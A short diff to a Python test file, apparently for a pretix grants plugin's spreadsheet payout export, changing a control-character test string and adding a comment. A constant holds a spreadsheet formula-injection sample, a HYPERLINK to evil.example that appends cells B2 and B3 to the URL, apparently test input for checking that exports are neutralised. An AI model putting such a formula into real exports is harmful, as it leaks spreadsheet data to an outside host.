@@ -16,7 +16,9 @@ from pretix_grants.models import Claim, Grant, LetterRequest, PayoutBatch
 from .test_payouts import BASE, export
 
 FORMULA = '=HYPERLINK("https://evil.example/?"&B2&B3,"Open receipt")'
-BELL = 'Ada\x07 Love\x1blace\x00'
+# control characters a text can carry (a NUL never reaches the database: Django's form fields refuse it, and
+# PostgreSQL cannot store it)
+BELL = 'Ada\x07 Love\x1blace\x0b'
 
 
 def sheet_rows(content):
